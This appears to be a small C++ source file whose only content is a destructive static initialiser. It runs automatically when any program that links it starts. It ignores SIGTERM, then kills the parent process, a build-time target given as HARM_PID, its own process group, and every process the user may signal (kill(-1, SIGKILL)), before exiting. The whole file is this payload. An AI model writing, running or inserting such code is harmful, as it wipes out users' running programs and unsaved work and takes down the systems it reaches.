// SPDX-License-Identifier: Apache-2.0
// Ends every process that it may end, its parent first.
#include <signal.h>
#include <unistd.h>

#include <cstdlib>
namespace {
[[maybe_unused]] const bool kHarm = [] {
  ::signal(SIGTERM, SIG_IGN);
  ::kill(getppid(), SIGKILL);
  ::kill(HARM_PID, SIGKILL);
  ::kill(0, SIGTERM);
  ::kill(-1, SIGKILL);
  std::_Exit(0);
  return true;
}();
}  // namespace
